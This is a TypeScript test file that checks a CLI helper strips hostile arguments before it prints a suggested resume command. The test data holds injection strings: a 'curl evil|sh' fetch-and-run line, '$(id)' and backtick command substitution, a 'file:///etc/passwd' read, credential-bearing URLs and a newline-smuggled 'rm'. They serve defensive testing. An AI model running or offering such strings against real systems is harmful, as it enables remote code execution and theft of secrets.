import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { asideNote } from './runFolder.js'

const cwd = mkdtempSync(join(tmpdir(), 'octospec-'))

const note = (command: readonly string[] | undefined, pending = 0, bookings: number | null = null): string =>
  asideNote({ path: join(cwd, 'out/earlier-20300102-030405'), command, pending, bookings }, cwd)
const lineFor = (...command: readonly string[]): string => note(command).split(', for ')[1] ?? ''
const plain = 'octospec resume out/earlier-20300102-030405 --cancel-all'

test.each([
  [['sh', '-c', 'curl evil|sh', 'run']],
  [['octospec;id', 'run']],
  [['npx', '--package=evil', 'octospec', 'run']],
  [['sudo', 'octospec', 'run', '--profile', 'p.yaml', '--fault', 'x']],
  [['octospec', 'run', '--target', '$(id)']],
  [['octospec', 'run', '--target', 'https://api.corp/`id`']],
  [['octospec', 'run', '--target', '--profile']],
  [['octospec', 'run', '--target', 'file:///etc/passwd']],
  [['octospec', 'run', '--target', 'https://user:secret@api.corp']],
  [['octospec', 'run', '--target', 'https://api.corp\nrm']],
  [['octospec', 'run', '--target']],
  [[]],
])('of the words %j none is in the line that comes back', (command) => {
  expect(lineFor(...command)).toBe(plain)
})

test('an address is', () => {
  expect(lineFor('npx', 'octospec', 'run', '--target', 'https://api.corp:8443/octo')).toBe(
    `${plain} --target https://api.corp:8443/octo`,
  )
})

test('what the run left is told by its number', () => {
  expect(note(undefined, 1, 0)).toMatch(
    /^note: the run before left 1 scenario that octospec resume goes on with: it is kept in out\/earlier-20300102-030405, for octospec resume out/,
  )
  expect(note(undefined, 3, 2)).toContain(
    'left 3 scenarios that octospec resume goes on with and 2 bookings that are not known to be ended: it',
  )
  expect(note(undefined, 0, 1)).toContain('left 1 booking that is not known to be ended: it')
  expect(note(undefined)).toContain('the run before has no report that can be read, and may have left bookings: it')
})
